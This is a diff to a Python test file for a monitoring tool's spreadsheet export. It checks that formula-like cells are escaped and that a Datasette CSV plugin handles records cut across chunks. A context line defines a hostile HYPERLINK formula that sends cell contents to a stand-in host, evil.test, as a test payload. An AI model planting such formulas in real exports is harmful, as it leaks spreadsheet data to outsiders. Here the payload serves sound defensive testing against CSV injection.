@@ -8,7 +8,7 @@ import io
 from pathlib import Path
 from typing import Any
 
-from monitor.spreadsheet import complete_records, spreadsheet_csv
+from monitor.spreadsheet import complete_records, spreadsheet_csv, spreadsheet_text
 from tests.test_triage import login, make_desk, run
 
 HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez")'
@@ -25,6 +25,34 @@ def test_formula_cells_become_text_and_the_rest_is_left_as_written() -> None:
     plain = 'id,title\r\ns1,"Traite : un réseau, démantelé"\r\n'
     assert spreadsheet_csv(plain) is plain
     assert spreadsheet_csv("a,\t=1\r\n") == "a,'\t=1\r\n"
+
+
+def test_a_report_cell_keeps_its_numbers_and_loses_its_formulas() -> None:
+    assert [spreadsheet_text(v) for v in (-2.5, "+33", "=1+1", "+33 1 23 45", "@x", 7)] == [
+        "-2.5",
+        "+33",
+        "'=1+1",
+        "'+33 1 23 45",
+        "'@x",
+        "7",
+    ]
+
+
+def test_a_record_split_across_chunks_waits_for_its_end() -> None:
+    """Datasette writes a record per chunk; one cut inside a quoted cell or inside a character still
+    comes out whole and safe."""
+    import importlib.util
+
+    path = Path(__file__).parent.parent / "monitor" / "datasette" / "plugins" / "veille_csv.py"
+    spec = importlib.util.spec_from_file_location("veille_csv_under_test", path)
+    assert spec and spec.loader
+    plugin = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(plugin)
+    body = plugin.SafeCsv()
+    record = 'id,title\r\ns1,"=cliquez, « ici »\r\nsuite"\r\n'.encode()
+    cut = record.index("«".encode()) + 1  # inside the two bytes of « and inside the quoted cell
+    assert body.feed(record[:cut], final=False) == b""
+    assert body.feed(record[cut:], final=True).decode() == 'id,title\r\ns1,"\'=cliquez, « ici »\r\nsuite"\r\n'
 
 
 def test_a_record_is_complete_only_outside_quotes_at_a_line_end() -> None:
